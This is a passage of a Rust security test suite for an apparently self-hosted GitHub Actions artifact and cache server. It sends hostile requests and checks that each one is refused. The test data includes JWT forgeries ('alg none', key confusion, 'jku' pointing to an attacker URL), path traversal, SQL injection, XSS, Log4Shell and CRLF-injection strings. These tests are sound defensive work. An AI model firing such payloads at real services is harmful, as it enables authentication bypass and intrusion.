//! `tests/bad-inputs.tsv`, row by row: hostile requests, byte for byte, and the answers they must get.
//!
//! What a row asks for stands here, what must come back stands in its columns. `http` and `code` hold one answer for
//! all requests of the row, or one for each, divided by `;`; `code` counts refused requests only, `×3` repeats one.

use std::net::TcpListener;
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use futures_util::TryStreamExt;
use jsonwebtoken::Algorithm;
use secrecy::ExposeSecret;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;
use wharfinger::clock::Clock;
use wharfinger::model::{Access, BlobId, BlobKind, Repositories};
use wharfinger::papers::{IssuerKind, IssuerSettings, Permission};
use wharfinger::service::credentials::{NewApiToken, RunToClose};

use super::artifacts_v3::{V3, gzip};
use super::bounds::{self, SHORT};
use super::cache_api::{CacheJob, VERSION};
use super::common::issuer::{Answer, KeyPair, KeySetServer};
use super::common::process::{Environment, Process};
use super::common::raw::{Reply, converse, exchange, request};
use super::common::s3::S3Server;
use super::common::{Backend, Job, TestServer, block_link, block_list, issuer};

const TABLE: &str = include_str!("../bad-inputs.tsv");
/// The rows that must have code here, from and to.
const NAMED: [(&str, &str); 12] = [
    ("B001", "B008"),
    ("B010", "B012"),
    ("B014", "B022"),
    ("B024", "B049"),
    ("B051", "B051"),
    ("B060", "B094"),
    ("B100", "B109"),
    ("B120", "B129"),
    ("B131", "B134"),
    ("B140", "B148"),
    ("B159", "B159"),
    ("B161", "B164"),
];
/// Rows for which the server has no surface yet, from and to, and what brings it.
const NOT_YET: [(&str, &str, &str); 3] = [
    ("B150", "B151", "comes with token exchange"),
    ("B152", "B158", "comes with the web pages"),
    ("B160", "B160", "comes with quotas"),
];
const ANSWER_WITHIN: Duration = Duration::from_secs(2);
/// Small, so that rows need few requests to reach them.
const MAX_PER_JOB: usize = 20;
const MAX_ARTIFACT_BYTES: u64 = 1024 * 1024;
const MAX_FILES: u32 = 5;
/// More than one job can make, so that no other row reaches it.
const MAX_PENDING_PER_RUN: usize = 25;
/// `closed` in the table: the connection ends without a reply.
const CLOSED: u16 = 0;
const GITHUB_ISS: &str = "https://token.actions.githubusercontent.com";
const ALLOWED_OWNER_ID: i64 = 583_231;

struct Row {
    id: &'static str,
    statuses: Vec<u16>,
    codes: Vec<&'static str>,
}

impl Row {
    fn parse(line: &'static str) -> Self {
        let columns: Vec<&str> = line.split('\t').collect();
        let [id, _request, _auth, http, code, ..] = columns[..] else {
            panic!("a row has six columns: {line}");
        };
        let repeated = |answer: &'static str| match answer.rsplit_once(" ×") {
            Some((answer, times)) => vec![answer; times.parse().unwrap()],
            None => vec![answer],
        };
        let status = |status| match status {
            "closed" => Some(CLOSED),
            // Rows that are not run yet may say more than a number.
            number => number.parse().ok(),
        };
        Self {
            id,
            statuses: http
                .split(';')
                .map(str::trim)
                .flat_map(repeated)
                .filter_map(status)
                .collect(),
            codes: code.split(';').map(str::trim).flat_map(repeated).collect(),
        }
    }
}

/// The one of `answers` that is meant for the request `number`.
fn expected<T: Copy>(row: &Row, answers: &[T], number: usize) -> T {
    match answers {
        [one] => *one,
        all => *all
            .get(number)
            .unwrap_or_else(|| panic!("{}: no answer for request {number}", row.id)),
    }
}

/// The issuer `ghes`, and GitHub, as they sign and publish their key.
struct PublicIssuers {
    key: KeyPair,
    keys: KeySetServer,
}

/// A row being played, in a workflow run of its own.
struct Case<'a> {
    backend: Backend,
    server: &'a TestServer,
    issuers: &'a PublicIssuers,
    row: &'a Row,
    job: Job<'a>,
    sent: usize,
    refused: usize,
    /// The artifacts that the row may leave in its run.
    left: Vec<String>,
    /// How many cache entries it may leave, wherever.
    saved: usize,
}

impl<'a> Case<'a> {
    fn new(backend: Backend, server: &'a TestServer, issuers: &'a PublicIssuers, row: &'a Row) -> Self {
        Self {
            backend,
            server,
            issuers,
            row,
            job: server.job_of("octo/demo", row.id, "build"),
            sent: 0,
            refused: 0,
            left: Vec::new(),
            saved: 0,
        }
    }

    fn now_s(&self) -> i64 {
        self.server.app.services.clock.now_ms() / 1000
    }

    /// Sends the row's next request and compares the reply with the table.
    async fn send(&mut self, bytes: Vec<u8>) -> Reply {
        let received = self.receive(&bytes).await;
        assert!(!received.is_empty(), "{}: no reply", self.what(&bytes));
        let reply = Reply::parse(&received);
        self.judge(&bytes, &reply);
        reply
    }

    /// Sends bytes that need be no request, and compares the one reply, or that there is none, with the table.
    async fn send_raw(&mut self, bytes: impl AsRef<[u8]>) -> Option<Reply> {
        let bytes = bytes.as_ref();
        let received = self.receive(bytes).await;
        let replies = received.windows(9).filter(|window| window == b"HTTP/1.1 ").count();
        assert!(replies <= 1, "{}: {replies} replies", self.what(bytes));
        if received.is_empty() {
            self.compare(CLOSED, &self.what(bytes));
            return None;
        }
        let reply = Reply::parse(&received);
        self.judge(bytes, &reply);
        Some(reply)
    }

    /// What comes from the server until it closes the connection, which it must do soon.
    async fn receive(&self, bytes: &[u8]) -> Vec<u8> {
        let receiving = tokio::time::timeout(ANSWER_WITHIN, converse(&self.server.url, bytes)).await;
        receiving.unwrap_or_else(|_| panic!("{} was not answered in time", self.what(bytes)))
    }

    fn what(&self, bytes: &[u8]) -> String {
        let line = String::from_utf8_lossy(&bytes[..bytes.len().min(120)]);
        format!("{} request {}: {line}", self.row.id, self.sent)
    }

    /// Compares what became of the next request with the table.
    fn compare(&mut self, status: u16, what: &str) {
        assert_eq!(status, expected(self.row, &self.row.statuses, self.sent), "{what}");
        self.sent += 1;
        self.refused += usize::from(status >= 400);
    }

    /// Compares a reply with the table: its status, and its code in the dialect of the path.
    fn judge(&mut self, bytes: &[u8], reply: &Reply) {
        let row = self.row;
        let line = String::from_utf8_lossy(&bytes[..bytes.len().min(120)]).into_owned();
        let what = || format!("{} request {}: {line}", row.id, self.sent);
        // Codes in brackets: the answer has none.
        if !row.codes[0].starts_with('(') {
            let refusal = (reply.status >= 400).then(|| expected(row, &row.codes, self.refused));
            let target = line.split(' ').nth(1).unwrap();
            if target.starts_with("/_apis/") {
                if refusal.is_some() {
                    let answer = reply.json();
                    assert_eq!(reply.header("content-type"), Some("application/json"), "{}", what());
                    let message = answer["message"].as_str();
                    assert!(
                        message.is_some_and(|message| !message.is_empty()),
                        "{} {answer}",
                        what()
                    );
                }
            } else if target.contains("/twirp/") {
                let answer = reply.json();
                assert_eq!(reply.header("content-type"), Some("application/json"), "{}", what());
                if let Some(code) = refusal {
                    assert_eq!(answer["code"], code, "{} {answer}", what());
                    assert!(answer["msg"].as_str().is_some_and(|msg| !msg.is_empty()), "{}", what());
                }
            } else if target.starts_with("/api/") {
                if refusal.is_some() {
                    let answer = reply.json();
                    assert_eq!(reply.header("content-type"), Some("application/json"), "{}", what());
                    assert!(
                        answer["message"].as_str().is_some_and(|message| !message.is_empty()),
                        "{}",
                        what()
                    );
                }
            } else {
                assert!(target.starts_with("/blob/"), "{}", what());
                assert!(reply.header("x-ms-request-id").is_some(), "{}", what());
                assert_eq!(reply.header("x-ms-error-code"), refusal, "{}", what());
                if let Some(code) = refusal.filter(|_| !line.starts_with("HEAD ")) {
                    let body = reply.text();
                    let begins =
                        format!("<?xml version=\"1.0\" encoding=\"utf-8\"?><Error><Code>{code}</Code><Message>");
                    assert!(
                        body.starts_with(&begins) && body.ends_with("</Message></Error>"),
                        "{body}"
                    );
                }
            }
        }
        self.compare(reply.status, &format!("{}: {reply:?}", what()));
    }

    /// An artifact of the run that stays; its id.
    async fn keep(&mut self, name: &str) -> String {
        self.left.push(name.to_owned());
        self.job.upload(name, b"kept").await
    }

    /// What an API token for octo/demo puts into `Authorization`.
    async fn api_token(&self, access: Access) -> String {
        let new = NewApiToken {
            name: "row".to_owned(),
            issuer: None,
            repositories: Repositories::Some(vec!["octo/demo".to_owned()]),
            access,
            lives_for: Duration::from_secs(3600),
        };
        let (_, text) = self.server.app.services.create_api_token(new).await.unwrap();
        format!("Bearer {}", text.expose_secret())
    }

    async fn rest(&mut self, method: &str, what: &str, headers: &[(&str, &str)]) -> Reply {
        let target = format!("/api/v3/repos/octo/demo/actions/{what}");
        self.send(request(method, &target, headers, b"")).await
    }

    /// Passes over a request that can't be sent yet.
    fn not_yet(&self, part: &str, why: &str) {
        println!("not yet: {} {part}: {why}", self.row.id);
    }

    /// The row's run and job, and `fields`, as a message.
    fn message(&self, fields: Value) -> Value {
        let mut message = json!({
            "workflow_run_backend_id": self.job.run,
            "workflow_job_run_backend_id": self.job.job,
        });
        message
            .as_object_mut()
            .unwrap()
            .extend(fields.as_object().unwrap().clone());
        message
    }

    /// A call with the row's good token.
    async fn call(&mut self, method: &str, fields: Value) -> Reply {
        let message = self.message(fields);
        self.post(method, message.to_string()).await
    }

    /// Any body to a method, with the row's good token.
    async fn post(&mut self, method: &str, body: impl AsRef<[u8]>) -> Reply {
        let bearer = format!("Bearer {}", self.job.token);
        self.post_with(method, &[JSON, ("Authorization", &bearer)], body).await
    }

    async fn post_with(&mut self, method: &str, headers: &[(&str, &str)], body: impl AsRef<[u8]>) -> Reply {
        self.send(request("POST", &twirp(method), headers, body.as_ref())).await
    }

    /// A good list with these headers, which are the point of the row.
    async fn list_with(&mut self, headers: &[(&str, &str)]) -> Reply {
        let message = self.message(json!({}));
        self.post_with("ListArtifacts", &[&[JSON], headers].concat(), message.to_string())
            .await
    }

    async fn list_as(&mut self, token: &str) -> Reply {
        self.list_with(&[("Authorization", &format!("Bearer {token}"))]).await
    }

    /// Claims of the forge for the row's job, with `changes` laid over them; `null` stays `null`.
    fn claims(&self, changes: Value) -> Value {
        let now_ms = self.server.app.services.clock.now_ms();
        let mut claims = issuer::claims("forge", "octo/demo", &self.job.run, &self.job.job, now_ms);
        claims["aud"] = json!("wharfinger");
        claims
            .as_object_mut()
            .unwrap()
            .extend(changes.as_object().unwrap().clone());
        claims
    }

    async fn list_with_claims(&mut self, changes: Value) -> Reply {
        let token = forge_token(issuer::HEADER, &self.claims(changes).to_string());
        self.list_as(&token).await
    }

    async fn list_with_header(&mut self, header: &str) -> Reply {
        let token = forge_token(header, &self.claims(json!({})).to_string());
        self.list_as(&token).await
    }

    /// Creates an artifact named after the row and returns its link.
    async fn create(&self) -> String {
        self.job.create(self.row.id).await
    }

    async fn finalize(&self, size: usize) {
        let fields = json!({ "name": self.row.id, "size": size.to_string() });
        let (status, reply) = self.job.call("FinalizeArtifact", fields).await;
        assert_eq!(status, 200, "{}: {reply}", self.row.id);
    }

    /// Uploads an artifact named after the row, which stays.
    async fn upload(&mut self, bytes: &[u8]) {
        self.job.upload(self.row.id, bytes).await;
        self.left.push(self.row.id.to_owned());
    }

    async fn delete(&mut self) {
        let (status, _) = self.job.call("DeleteArtifact", json!({ "name": self.row.id })).await;
        assert_eq!(status, 200);
        self.left.clear();
    }

    async fn stage(&self, link: &str, id: &str, bytes: &[u8]) {
        assert_eq!(self.job.put(&block_link(link, id), bytes.to_vec()).await.0, 201);
    }

    async fn put(&mut self, url: &str, headers: &[(&str, &str)], body: impl AsRef<[u8]>) -> Reply {
        let target = target(self.server, url);
        self.send(request("PUT", target, headers, body.as_ref())).await
    }

    async fn put_list(&mut self, link: &str, body: impl AsRef<[u8]>) -> Reply {
        self.put(&format!("{link}&comp=blocklist"), &[], body).await
    }

    async fn get(&mut self, url: &str, headers: &[(&str, &str)]) -> Reply {
        self.send(request("GET", target(self.server, url), headers, b"")).await
    }

    /// A call of the CacheService with the row's good token.
    async fn cache(&mut self, method: &str, fields: Value) -> Reply {
        let token = self.job.token.clone();
        self.cache_as(&token, method, fields).await
    }

    async fn cache_as(&mut self, token: &str, method: &str, mut fields: Value) -> Reply {
        let fields = fields.as_object_mut().unwrap();
        fields.entry("version").or_insert(json!(VERSION));
        self.cache_body(token, method, JSON, json!(fields).to_string()).await
    }

    async fn cache_body(
        &mut self,
        token: &str,
        method: &str,
        content_type: (&str, &str),
        body: impl AsRef<[u8]>,
    ) -> Reply {
        let target = format!("/twirp/github.actions.results.api.v1.CacheService/{method}");
        let headers = [content_type, ("Authorization", &format!("Bearer {token}"))];
        self.send(request("POST", &target, &headers, body.as_ref())).await
    }

    /// A request to version 1 of the cache with the row's good token.
    async fn cache_v1(&mut self, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
        let bearer = format!("Bearer {}", self.job.token);
        let headers = [&[("Authorization", bearer.as_str())], headers].concat();
        let target = format!("/_apis/artifactcache/{path}");
        self.send(request(method, &target, &headers, body.as_bytes())).await
    }

    /// The row's job as one of version 3, whose run has a number.
    fn v3(&self) -> V3<'a> {
        let run = &self.row.id[1..];
        V3(self.server.job_of("octo/demo", run, "build"))
    }

    /// A request of version 3 of the artifact protocol.
    async fn files(&mut self, method: &str, url: &str, headers: &[(&str, &str)], body: impl AsRef<[u8]>) -> Reply {
        let bearer = format!("Bearer {}", self.v3().0.token);
        let headers = [&[("Authorization", bearer.as_str())], headers].concat();
        let target = target(self.server, url);
        self.send(request(method, target, &headers, body.as_ref())).await
    }

    /// Saves a cache entry, which stays.
    async fn save(&mut self, token: String, key: &str) {
        let server = self.server;
        CacheJob { server, token }.save(key, b"saved").await;
        self.saved += 1;
    }

    /// A token of the forge for the main branch's cache.
    fn cache_token(&self, permission: u8) -> String {
        let scopes = json!([{ "Scope": "refs/heads/main", "Permission": permission }]);
        let claims = self.claims(json!({ "ac": scopes.to_string() }));
        forge_token(issuer::HEADER, &claims.to_string())
    }

    fn token_of_ref(&self, git_ref: &str) -> String {
        self.server.token_of_ref("octo/demo", self.row.id, "build", git_ref)
    }

    /// After a row: all answers of the table were asked for, good requests succeed, nothing new is there. Returns how
    /// much stays.
    async fn finish(mut self) -> usize {
        let id = self.row.id;
        assert!(self.sent > 0, "{id} sends nothing");
        for (answers, asked) in [
            (self.row.statuses.len(), self.sent),
            (self.row.codes.len(), self.refused),
        ] {
            assert!(
                answers == 1 || answers == asked,
                "{id}: {answers} answers for {asked} requests"
            );
        }
        let token = forge_token(issuer::HEADER, &self.claims(json!({})).to_string());
        let forge = Job {
            token,
            server: self.server,
            run: id.to_owned(),
            job: "build".to_owned(),
        };
        assert_eq!(
            forge.names().await,
            Vec::<String>::new(),
            "{id}: the forge's run is another"
        );
        let mut names = self.job.names().await;
        names.sort();
        self.left.sort();
        assert_eq!(names, self.left, "{id}");
        names.len() + self.saved
    }
}

const JSON: (&str, &str) = ("Content-Type", "application/json");

fn twirp(method: &str) -> String {
    format!("/twirp/github.actions.results.api.v1.ArtifactService/{method}")
}

fn target<'a>(server: &TestServer, url: &'a str) -> &'a str {
    url.strip_prefix(&server.url).unwrap()
}

fn forge_token(header: &str, claims: &str) -> String {
    issuer::sign(issuer::secret("forge").as_bytes(), header, claims)
}

fn blob_of(link: &str) -> BlobId {
    let (_, rest) = link.split_once("/blob/art/").unwrap();
    BlobId(rest.split('?').next().unwrap().parse().unwrap())
}

/// A link with one parameter's value replaced.
fn with_param(link: &str, name: &str, value: &str) -> String {
    let (path, query) = link.split_once('?').unwrap();
    let parameter = |parameter: &str| match parameter.split_once('=') {
        Some((known, _)) if known == name => format!("{name}={value}"),
        _ => parameter.to_owned(),
    };
    let query: Vec<String> = query.split('&').map(parameter).collect();
    format!("{path}?{}", query.join("&"))
}

fn param<'a>(link: &'a str, name: &str) -> &'a str {
    let (_, query) = link.split_once('?').unwrap();
    let mut parameters = query.split('&').map(|parameter| parameter.split_once('=').unwrap());
    parameters.find(|(known, _)| *known == name).unwrap().1
}

/// Makes the list of the rows with code together with the code, so that neither goes without the other.
macro_rules! rows {
    ($case:ident; $($id:literal => $code:block)*) => {
        const CODED: &[&str] = &[$($id),*];

        async fn play(id: &str, $case: &mut Case<'_>) {
            match id {
                $($id => $code)*
                _ => panic!("row {id} has no code"),
            }
        }
    };
}

rows! { case;
    "B001" => {
        let message = case.message(json!({ "name": "x", "version": 4 }));
        let reply = case.post_with("CreateArtifact", &[JSON], message.to_string()).await;
        assert_eq!(reply.header("www-authenticate"), Some("Bearer"));
    }
    "B002" => {
        case.list_with(&[("Authorization", "Basic b2N0bzpjYXQ=")]).await;
    }
    "B003" => {
        let good = format!("Bearer {}", case.job.token);
        for two in [[&good[..], "Bearer bad"], ["Bearer bad", &good]] {
            case.list_with(&two.map(|value| ("Authorization", value))).await;
        }
    }
    "B004" => {
        let claims = URL_SAFE_NO_PAD.encode(case.claims(json!({})).to_string());
        for alg in ["none", "None", "nOnE"] {
            let header = URL_SAFE_NO_PAD.encode(format!(r#"{{"alg":"{alg}","typ":"JWT"}}"#));
            case.list_as(&format!("{header}.{claims}.")).await;
        }
    }
    "B005" => {
        let key = &case.issuers.key;
        let claims = case.claims(json!({ "iss": "https://ghes.example" })).to_string();
        let header = json!({ "alg": "HS256", "kid": key.kid }).to_string();
        for secret in [key.public_pem().as_bytes(), key.public_pem().trim().as_bytes(), &key.public_der] {
            case.list_as(&issuer::sign(secret, &header, &claims)).await;
        }
    }
    "B006" => {
        let claims = case.claims(json!({})).to_string();
        for key in [&b""[..], b"\xba\xdb\xee\xf0", b"BADBEEF0"] {
            case.list_as(&issuer::sign(key, issuer::HEADER, &claims)).await;
        }
    }
    "B007" => {
        for kid in ["../../etc/passwd", "' OR 1=1--"] {
            case.list_with_header(&format!(r#"{{"alg":"HS256","kid":"{kid}"}}"#)).await;
        }
    }
    "B008" => {
        let attacker = TcpListener::bind("127.0.0.1:0").unwrap();
        attacker.set_nonblocking(true).unwrap();
        let address = attacker.local_addr().unwrap();
        for header in ["jku", "x5u"] {
            case.list_with_header(&format!(r#"{{"alg":"HS256","{header}":"http://{address}/keys"}}"#)).await;
        }
        case.list_with_header(r#"{"alg":"HS256","jwk":{"kty":"oct","k":"AAAA"}}"#).await;
        assert!(attacker.accept().is_err(), "the server asked the attacker for a key");
    }
    "B010" => {
        for exp in [json!("never"), json!(null)] {
            case.list_with_claims(json!({ "exp": exp })).await;
        }
        let good = case.claims(json!({}));
        let exp = format!("\"exp\":{}", good["exp"]);
        let claims = good.to_string();
        assert!(claims.contains(&exp));
        case.list_as(&forge_token(issuer::HEADER, &claims.replace(&exp, "\"exp\":1e400"))).await;
        case.list_as(&forge_token(issuer::HEADER, &claims.replace(&exp, "\"n\":1"))).await;
    }
    "B011" => {
        case.list_with_claims(json!({ "nbf": "99999999999" })).await;
        case.list_with_claims(json!({ "nbf": case.now_s() + 3600 })).await;
    }
    "B012" => {
        for ago in [61, 59] {
            case.list_with_claims(json!({ "exp": case.now_s() - ago })).await;
        }
    }
    "B014" => {
        let key = &case.issuers.key;
        let token = |owner: Value| {
            let claims = json!({ "iss": GITHUB_ISS, "repository_id": "1", "repository_owner_id": owner });
            key.sign(&key.header(), &case.claims(claims))
        };
        let allowed = Job {
            token: token(json!(ALLOWED_OWNER_ID.to_string())),
            ..case.server.job_of("octo/demo", case.row.id, "build")
        };
        assert_eq!(allowed.names().await, [""; 0]);
        for token in [json!("2"), json!(2), json!(null), json!("")].map(token) {
            case.list_as(&token).await;
        }
    }
    "B015" => {
        case.list_with_claims(json!({ "iss": "https://evil.example" })).await;
        case.list_with_claims(json!({ "aud": "another" })).await;
        case.list_with_claims(json!({ "aud": ["wharfinger", "evil"] })).await;
    }
    "B016" => {
        let good = format!("Actions.Results:{}:build", case.job.run);
        for scp in [
            "Actions.Other:a:b".to_owned(),
            format!("{good} {good}"),
            "Actions.Results:a".to_owned(),
            "Actions.Results:a:b:c".to_owned(),
        ] {
            case.list_with_claims(json!({ "scp": scp })).await;
        }
    }
    "B017" => {
        let scope = |permission: Value| json!({ "Scope": "refs/heads/main", "Permission": permission });
        for ac in [
            json!("[{"),
            json!([scope(json!(3))]),
            json!(json!(vec![json!({}); 10_000]).to_string()),
            json!(json!(vec![scope(json!(3)); 17]).to_string()),
            json!(json!([scope(json!(4))]).to_string()),
            json!(json!([scope(json!(-1))]).to_string()),
            json!(json!([scope(json!("3"))]).to_string()),
        ] {
            case.list_with_claims(json!({ "ac": ac })).await;
        }
    }
    "B019" => {
        let token = forge_token(issuer::HEADER, &case.claims(json!({})).to_string());
        let (signed, signature) = token.rsplit_once('.').unwrap();
        for bit in 0..256 {
            let mut bytes = URL_SAFE_NO_PAD.decode(signature).unwrap();
            bytes[bit / 8] ^= 1 << (bit % 8);
            case.list_as(&format!("{signed}.{}", URL_SAFE_NO_PAD.encode(bytes))).await;
        }
    }
    "B020" => {
        let run = RunToClose {
            issuer: None,
            repository: "octo/demo".to_owned(),
            run: "B020-closed".to_owned(),
        };
        let closed = case.server.job_of("octo/demo", &run.run, "build");
        let own = std::mem::replace(&mut case.job, closed);
        case.server.app.services.close_run(run).await.unwrap();
        case.server.advance(Duration::from_secs(11 * 60));
        case.call("CreateArtifact", json!({ "name": "x", "version": 4 })).await;
        case.call("ListArtifacts", json!({})).await;
        case.job = own;
    }
    "B024" => {
        let api = case.api_token(Access::Admin).await;
        let body = case.message(json!({ "name": "x", "version": 4 })).to_string();
        case.post_with("CreateArtifact", &[JSON, ("Authorization", &api)], body.as_bytes()).await;
        let id = case.keep("kept").await;
        let bearer = format!("Bearer {}", case.job.token);
        case.rest("DELETE", &format!("artifacts/{id}"), &[("Authorization", &bearer)]).await;
    }
    "B131" => {
        let api = case.api_token(Access::Read).await;
        case.keep("kept").await;
        let list = async |case: &mut Case<'_>, query: &str| {
            case.rest("GET", &format!("artifacts?{query}"), &[("Authorization", &api)]).await
        };
        let reply = list(case, "name=%25").await;
        assert_eq!(reply.json(), json!({ "total_count": 0, "artifacts": [] }));
        list(case, "name=a%00b").await;
        list(case, "sort=id;drop").await;
    }
    "B132" => {
        let api = case.api_token(Access::Admin).await;
        let other = case.server.job_of("octo/other", case.row.id, "build").upload("secret", b"s").await;
        let mut bodies = Vec::new();
        for id in [other.as_str(), "999999999"] {
            let reply = case.rest("GET", &format!("artifacts/{id}"), &[("Authorization", &api)]).await;
            bodies.push(reply.body);
        }
        assert_eq!(bodies[0], bodies[1]);
    }
    "B133" => {
        let api = case.api_token(Access::Read).await;
        for repository in ["../demo", "octo/%2e%2e", "oct%D0%BE/demo", "OCTO/Demo"] {
            let target = format!("/api/v3/repos/{repository}/actions/artifacts");
            case.send(request("GET", &target, &[("Authorization", &api)], b"")).await;
        }
    }
    "B134" => {
        let read = case.api_token(Access::Read).await;
        let id = case.keep("kept").await;
        let artifact = format!("artifacts/{id}");
        case.rest("DELETE", &artifact, &[("Authorization", &read)]).await;
        case.rest("DELETE", &artifact, &[]).await;
        case.rest("DELETE", &artifact, &[("Cookie", "session=anything")]).await;
        let override_method = ("X-HTTP-Method-Override", "DELETE");
        case.rest("GET", &artifact, &[("Authorization", &read), override_method]).await;
    }
    "B021" => {
        let fields = json!({ "workflow_run_backend_id": "B", "name": "x", "version": 4 });
        case.call("CreateArtifact", fields).await;
    }
    "B022" => {
        case.server.job_of("octo/other", "other-run", "build").upload("x", b"x").await;
        for method in ["ListArtifacts", "GetSignedArtifactURL", "DeleteArtifact"] {
            let mut bodies = Vec::new();
            for run in ["other-run", "missing-run"] {
                let fields = json!({ "workflow_run_backend_id": run, "name": "x" });
                bodies.push(case.call(method, fields).await.text());
            }
            assert_eq!(bodies[0], bodies[1], "{method}");
        }
    }
    "B025" => {
        case.call("Nope", json!({})).await;
        let bearer = format!("Bearer {}", case.job.token);
        let headers = [("Authorization", bearer.as_str())];
        case.send(request("GET", &twirp("CreateArtifact"), &headers, b"")).await;
        case.send(request("POST", "/twirp/Other.Service/X", &headers, b"{}")).await;
    }
    "B026" => {
        let bearer = format!("Bearer {}", case.job.token);
        let message = case.message(json!({})).to_string();
        for content_type in [
            Some("text/plain"),
            None,
            Some("application/json; charset=utf-16"),
            Some("application/json; charset=utf-8"),
        ] {
            let mut headers = vec![("Authorization", bearer.as_str())];
            headers.extend(content_type.map(|value| ("Content-Type", value)));
            case.post_with("ListArtifacts", &headers, &message).await;
        }
    }
    "B027" => {
        let nesting = "[".repeat(1024 * 1024);
        let fields = case.message(json!({ "x": 1 })).to_string();
        let nested = fields.replace("\"x\":1", &format!("\"x\":{}{}", "[".repeat(65), "]".repeat(65)));
        for body in ["", "[]", "null", "{\"name\":", &nesting, &nested] {
            case.post("ListArtifacts", body).await;
        }
    }
    "B028" => {
        case.call("CreateArtifact", json!({ "name": "x", "padding": "x".repeat(2 * 1024 * 1024) })).await;
    }
    "B029" => {
        let body = case.message(json!({ "name": "N" })).to_string();
        let named = |name: &[u8]| {
            let (before, after) = body.split_once("\"N\"").unwrap();
            [before.as_bytes(), b"\"", name, b"\"", after.as_bytes()].concat()
        };
        for body in [
            named(b"\\ud800"),
            named(b"a\xffb"),
            [b"\xef\xbb\xbf", body.as_bytes()].concat(),
            named(b"\xc0\xaf"),
        ] {
            case.post("CreateArtifact", body).await;
        }
    }
    "B030" => {
        case.call("CreateArtifact", json!({ "name": "a\0b" })).await;
    }
    "B031" => {
        case.call("CreateArtifact", json!({ "name": "" })).await;
        case.call("CreateArtifact", json!({})).await;
        for length in [1_000_000, 256] {
            case.call("CreateArtifact", json!({ "name": "x".repeat(length) })).await;
        }
    }
    "B033" => {
        for name in ["../x", "a/b", "a\\b", "C:\\x", "\\\\srv\\s", ".", ".."] {
            case.call("CreateArtifact", json!({ "name": name })).await;
        }
    }
    "B033b" => {
        let name = "..%2f..%2fx";
        let reply = case.call("CreateArtifact", json!({ "name": name })).await.json();
        let link = reply["signed_upload_url"].as_str().unwrap();
        assert!(!link.contains("%2f"), "{link}");
        assert_eq!(case.job.put(link, b"x".to_vec()).await.0, 201);
        let (status, _) = case.job.call("FinalizeArtifact", json!({ "name": name, "size": "1" })).await;
        assert_eq!(status, 200);
        case.left.push(name.to_owned());
    }
    "B034" => {
        for c in "\":<>*?|\r\n".chars() {
            case.call("CreateArtifact", json!({ "name": format!("a{c}b") })).await;
        }
    }
    "B038" => {
        for name in [
            "<script>alert(1)</script>",
            "';DROP TABLE artifacts;--",
            "{{7+7}}",
            "${jndi:ldap://x}",
            "=cmd()",
        ] {
            case.call("CreateArtifact", json!({ "name": name })).await;
        }
    }
    "B039" => {
        case.upload(b"x").await;
        case.call("CreateArtifact", json!({ "name": "B039", "version": 4 })).await;
    }
    "B040" => {
        for version in [json!(2_147_483_648_u32), json!("x"), json!(1.5)] {
            case.call("CreateArtifact", json!({ "name": "x", "version": version })).await;
        }
    }
    "B042" => {
        for mime_type in ["text/html\r\nSet-Cookie: x".to_owned(), "x".repeat(10 * 1024)] {
            case.call("CreateArtifact", json!({ "name": "x", "mime_type": mime_type })).await;
        }
    }
    "B043" => {
        for i in 0..MAX_PER_JOB {
            case.job.create(&format!("x{i}")).await;
        }
        let reply = case.call("CreateArtifact", json!({ "name": "one more" })).await;
        assert!(reply.text().contains("insufficient usage"));
    }
    "B044" => {
        let link = case.create().await;
        case.call("FinalizeArtifact", json!({ "name": "B044" })).await;
        case.stage(&link, "QQ==", b"x").await;
        case.call("FinalizeArtifact", json!({ "name": "B044", "size": "1" })).await;
    }
    "B045" => {
        let link = case.create().await;
        assert_eq!(case.job.put(&link, b"12345".to_vec()).await.0, 201);
        for size in [json!(-1), json!("9223372036854775808"), json!("1e3"), json!("6")] {
            case.call("FinalizeArtifact", json!({ "name": "B045", "size": size })).await;
        }
        case.finalize(5).await;
        case.left.push("B045".to_owned());
    }
    "B047" => {
        case.call("FinalizeArtifact", json!({ "name": "unknown", "size": "1" })).await;
        case.upload(b"x").await;
        case.delete().await;
        case.call("FinalizeArtifact", json!({ "name": "B047", "size": "1" })).await;
    }
    "B048" => {
        let link = case.create().await;
        assert_eq!(case.job.put(&link, b"x".to_vec()).await.0, 201);
        let hash = "sha256:2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881";
        let fields = json!({ "name": "B048", "size": "1", "hash": hash });
        let first = case.call("FinalizeArtifact", fields.clone()).await.json();
        let second = case.call("FinalizeArtifact", fields).await.json();
        assert_eq!(first, second);
        let other = json!({ "name": "B048", "size": "1", "hash": hash.replace("2d71", "0000") });
        case.call("FinalizeArtifact", other).await;
        case.left.push("B048".to_owned());
    }
    "B049" => {
        case.upload(b"x").await;
        for filter in ["%", "_", "B04_", "a' OR '1'='1", "\\"] {
            let reply = case.call("ListArtifacts", json!({ "name_filter": filter })).await;
            assert_eq!(reply.json(), json!({ "artifacts": [] }), "{filter}");
        }
    }
    "B051" => {
        let token = case.job.token.clone();
        let unknown_fields = b"\xf8\x07\x00".repeat(1_000_000);
        for body in [&b"\x10\x01"[..], &unknown_fields, b"\x12\xff"] {
            let protobuf = ("Content-Type", "application/protobuf");
            case.cache_body(&token, "CreateCacheEntry", protobuf, body).await;
        }
    }
    "B060" => {
        let link = case.create().await;
        let (rest, sig) = link.split_once("&sig=").unwrap();
        for bad in [String::new(), "&sig=".into(), format!("&sig={}", &sig[1..]), format!("&sig={}!", &sig[1..])] {
            case.put(&format!("{rest}{bad}"), &[], "x").await;
        }
    }
    "B061" => {
        let link = case.create().await;
        let other = case.job.create("other").await;
        let se = param(&link, "se").parse::<i64>().unwrap() + 1;
        for altered in [
            link.replace(&blob_of(&link).to_string(), &blob_of(&other).to_string()),
            link.replace("/blob/art/", "/blob/cache/"),
            with_param(&link, "sv", "2"),
            with_param(&link, "sp", "r"),
            with_param(&link, "se", &se.to_string()),
            with_param(&link, "sk", "2"),
        ] {
            assert_ne!(altered, link);
            case.put(&altered, &[], "x").await;
        }
    }
    "B062" => {
        let link = case.create().await;
        let (id, se) = (blob_of(&link).to_string(), param(&link, "se"));
        let (id_start, id_end) = id.split_at(id.len() - 1);
        let (se_start, se_end) = se.split_at(se.len() - 1);
        for moved in [
            with_param(&with_param(&link, "se", se_start), "sk", &format!("{se_end}1")),
            with_param(&with_param(&link, "se", &format!("{se}1")), "sk", ""),
